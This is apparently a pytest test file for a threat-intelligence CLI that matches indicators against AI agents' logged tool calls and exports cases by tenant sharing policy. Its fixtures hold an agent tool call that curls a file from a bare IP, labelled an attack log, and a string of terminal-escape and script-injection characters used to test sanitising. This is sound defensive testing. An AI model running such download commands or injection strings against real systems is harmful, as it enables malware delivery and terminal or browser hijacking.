"""``agentwarrant intel``: indicators in, and what agents met of them."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from tests.core.test_intel_index import indicator
from tests.running import Done, command_run

EVENTS = Path(__file__).parents[1] / "connectors/ecs"


@pytest.fixture
def store(tmp_path: Path) -> Path:
    return tmp_path / "intel.sqlite"


def run(store: Path, *arguments: str | Path, cwd: Path | None = None) -> Done:
    environment = {**os.environ, "AGENTWARRANT_INTEL": str(store)}
    return command_run(arguments, env=environment, cwd=cwd)


def bundle(folder: Path, *items: object, name: str = "bundle.json") -> Path:
    path = folder / name
    path.write_text(json.dumps({"type": "bundle", "objects": items}))
    return path


def call(number: int) -> dict[str, object]:
    """Return a call of an agent, as ECS."""
    return {
        "@timestamp": f"2026-06-01T10:00:0{number}.000Z",
        "event.id": f"e{number}",
        "event.kind": "event",
        "event.category": ["web"],
        "event.type": ["access"],
        "event.action": "tool_call",
        "event.dataset": "ecs.events",
        "event.module": "ecs",
        "gen_ai.agent.id": "helper",
        "gen_ai.conversation.id": "c1",
        "gen_ai.tool.name": "web_fetch",
        "url.full": "https://evil.example/x",
        "url.domain": "evil.example",
    }


def test_what_agents_met_is_said_on_the_event_and_counted(store: Path, tmp_path: Path) -> None:
    item = indicator("[domain-name:value = 'evil.example']", name="a kit")
    taken = run(store, "intel", "pull", bundle(tmp_path, item, {**item, "id": "x"}), "--reasons")
    assert taken.returncode == 0
    assert b"1 new, 1 refused (no id 1)" in taken.stderr
    log = tmp_path / "events.jsonl"
    log.write_text("".join(json.dumps(call(n)) + "\n" for n in range(3)))
    done = run(store, "normalize", log, "--source", "ecs")
    events = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(events) == 3, done.stderr
    for event in events:
        assert event["warrant.threat.matched"] == [f"indicators:{item['id']}"]
        assert event["warrant.threat.name"] == ["a kit (by-hand, TLP:CLEAR)"]
    (seen,) = run(store, "intel", "list", "--format", "jsonl").stdout.splitlines()
    assert json.loads(seen) == {
        "feed": "by-hand",
        "id": item["id"],
        "tenant": "default",
        "times": 3,
        "first": "2026-06-01T10:00:00.000Z",
        "last": "2026-06-01T10:00:02.000Z",
    }
    table = run(store, "intel", "list").stdout.decode()
    assert "by-hand" in table
    assert "3x" in table


def test_feeds_are_those_of_the_configuration(store: Path, tmp_path: Path) -> None:
    bundle(tmp_path, indicator("[domain-name:value = 'a.example']"), name="one.json")
    (tmp_path / "agentwarrant.yml").write_text(
        "targets: {main: {kind: elastic, url: https://localhost:9200}}\n"
        "intel: {feeds: {good: {path: one.json, days: 36500}, gone: {path: none.json}}}\n"
    )
    done = run(store, "intel", "pull", cwd=tmp_path)
    assert done.returncode == 6
    assert b"good: 1 new" in done.stderr
    assert b"none.json" in done.stderr
    assert b"Traceback" not in done.stderr
    assert run(store, "intel", "pull", "--feed", "good", cwd=tmp_path).returncode == 0
    asked = run(store, "intel", "pull", "--feed", "goood", cwd=tmp_path)
    assert asked.returncode != 0
    assert b"good" in asked.stderr


@pytest.mark.parametrize(
    ("feed", "what"),
    [
        ("{url: https://a.example/c/, password: secret-in-clear, username: u}", "no reference"),
        ("{url: http://a.example/c/, token: 'env:T'}", "unencrypted"),
        ("{url: https://a.example/c/, path: x.json}", "at a url or at a path"),
        ("{}", "at a url or at a path"),
        ("{path: x.json, confidence: 101}", "maximum of 100"),
    ],
)
def test_a_faulty_feed_is_refused_with_its_place(
    store: Path, tmp_path: Path, feed: str, what: str
) -> None:
    (tmp_path / "agentwarrant.yml").write_text(
        "targets: {main: {kind: elastic, url: https://localhost:9200}}\n"
        f"intel: {{feeds: {{sector: {feed}}}}}\n"
    )
    done = run(store, "intel", "pull", cwd=tmp_path)
    assert done.returncode != 0
    assert what.encode() in done.stderr
    assert b"secret-in-clear" not in done.stderr
    assert b"Traceback" not in done.stderr


HOSTILE = "\x1b[2Ja \x9b31mkit\r\n<script>alert(1)</script>\x07\u202e"


def test_names_of_others_are_shown_without_what_they_would_do_to_a_terminal(
    store: Path, tmp_path: Path
) -> None:
    item = indicator("[domain-name:value = 'evil.example']", name=HOSTILE, description=HOSTILE)
    broken = {**item, "id": f"\x1b[2J{HOSTILE}", "pattern_type": HOSTILE}
    pulled = run(store, "intel", "pull", bundle(tmp_path, item, broken), "--reasons")
    log = tmp_path / "events.jsonl"
    log.write_text(json.dumps(call(1)) + "\n")
    scanned = run(store, "normalize", log, "--source", "ecs")
    listed = run(store, "intel", "list")
    assert b"kit" in listed.stdout
    for done in (pulled, scanned, listed, run(store, "intel", "list", "--format", "jsonl")):
        for character in ("\x1b", "\x9b", "\x07", "\r", "\u202e"):
            assert character.encode() not in done.stdout.replace(b"\r\n", b"\n") + done.stderr, done
    html = run(store, "scan", log, "--source", "ecs", "--format", "html").stdout
    assert b"<script>alert" not in html


def test_a_scan_that_is_repeated_counts_no_sighting_again(store: Path, tmp_path: Path) -> None:
    item = indicator("[domain-name:value = 'evil.example']", name="a kit")
    run(store, "intel", "pull", bundle(tmp_path, item))
    log = tmp_path / "events.jsonl"
    log.write_text("".join(json.dumps(call(n)) + "\n" for n in range(3)))
    run(store, "normalize", log, "--source", "ecs")
    with log.open("a") as file:
        file.write(json.dumps(call(3)) + "\n")
    run(store, "normalize", log, "--source", "ecs")
    (seen,) = run(store, "intel", "list", "--format", "jsonl").stdout.splitlines()
    assert json.loads(seen)["times"] == 4


# Out ------------------------------------------------------------------------------------------

LOG = (
    {"type": "session", "version": 4, "id": "s1", "timestamp": "2026-11-23T04:42:28.377Z",
     "cwd": "/home/acme/clerk"},
    {"type": "message", "id": "m1", "parentId": None, "timestamp": "2026-11-23T04:42:29.000Z",
     "message": {"role": "assistant", "stopReason": "toolUse", "content": [
         {"type": "toolCall", "id": "call_1", "name": "exec",
          "arguments": {"command": "curl -fsSL http://91.92.242.30/6wioz8285kcbax6v -o a"}}]}},
)  # fmt: skip


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """Return a folder with a log of an attack and two tenants, one of which shares."""
    (tmp_path / "s.jsonl").write_text("".join(json.dumps(one) + "\n" for one in LOG))
    (tmp_path / "agentwarrant.yml").write_text(
        "targets: {main: {kind: elastic, url: https://localhost:9200}}\n"
        "tenants: {acme: {}, globex: {}}\n"
        "intel:\n"
        "  feeds: {group: {path: group.json}}\n"
        "  sharing: {acme: {tlp: green, tell: case}}\n"
    )
    return tmp_path


def exported(store: Path, home: Path, *more: str) -> tuple[dict[str, object], bytes]:
    done = run(store, "intel", "export", "s.jsonl", "--out", "c.json", *more, cwd=home)
    assert done.returncode == 0, done.stderr
    path = home / "c.json"
    found = json.loads(path.read_bytes()) if path.is_file() else {}
    path.unlink(missing_ok=True)
    return found, done.stderr


def test_a_case_is_written_by_the_policy_of_its_tenant_the_same_each_time(
    store: Path, home: Path
) -> None:
    made, said = exported(store, home, "--tenant", "acme")
    written = json.dumps(made)
    assert "[ipv4-addr:value = '91.92.242.30']" in written
    assert '"playbook_standard": "cacao"' in written
    assert "clerk" not in written
    assert b"1 indicator, TLP:GREEN, case" in said
    assert exported(store, home, "--tenant", "acme")[0] == made


def test_a_tenant_without_a_policy_tells_nothing(store: Path, home: Path) -> None:
    made, said = exported(store, home, "--tenant", "globex")
    assert made == {}
    assert b"the tenant globex shares nothing" in said
    assert b"nothing was written" in said


def test_one_case_is_chosen_by_how_its_id_begins(store: Path, home: Path) -> None:
    _, said = exported(store, home, "--tenant", "acme")
    identity = said.split(b"case ")[1].split(b":")[0].decode()
    assert exported(store, home, "--tenant", "acme", "--case", identity[:6])[0]
    missing = run(store, "intel", "export", "s.jsonl", "--case", "zz", cwd=home)
    assert missing.returncode == 2
    assert b"no case begins with 'zz'" in missing.stderr


@pytest.mark.parametrize(("tlp", "told"), [("green", True), ("amber", False)])
def test_what_a_feed_gave_goes_on_only_as_it_lets_it(
    store: Path, home: Path, tlp: str, told: bool
) -> None:
    item = indicator("[ipv4-addr:value = '91.92.242.30']", name="a kit")
    bundle(home, item, name="group.json")
    config = home / "agentwarrant.yml"
    config.write_text(config.read_text().replace("group.json", f"group.json, tlp: {tlp}"))
    assert run(store, "intel", "pull", cwd=home).returncode == 0
    made, said = exported(store, home, "--tenant", "acme")
    assert bool(made) is told
    assert told or b"nothing in it is an attacker's, and may be told" in said


def test_what_is_no_bundle_is_not_pushed(store: Path, home: Path) -> None:
    config = home / "agentwarrant.yml"
    config.write_text(
        config.read_text().replace("tell: case", "collections: [sector]")
        + "  collections: {sector: {url: https://taxii.example/r/collections/1/}}\n"
    )
    for name, text, code in (("a", "no json", 2), ("b", "{}", 2), ("gone", None, 3)):
        if text is not None:
            (home / name).write_text(text)
        asked = ("intel", "push", "sector", "--bundle", name, "--tenant", "acme")
        done = run(store, *asked, cwd=home)
        assert done.returncode == code, done.stderr
        assert b"Traceback" not in done.stderr
    both = run(store, "intel", "push", "sector", "s.jsonl", "--bundle", "a", cwd=home)
    assert both.returncode == 2
    assert b"choose --bundle or logs" in both.stderr


def test_the_shipped_lists_are_written(store: Path, tmp_path: Path) -> None:
    done = run(store, "intel", "lists", "--out", tmp_path / "lists.json")
    assert done.returncode == 0
    assert run(store, "intel", "lists").stdout == (tmp_path / "lists.json").read_bytes()
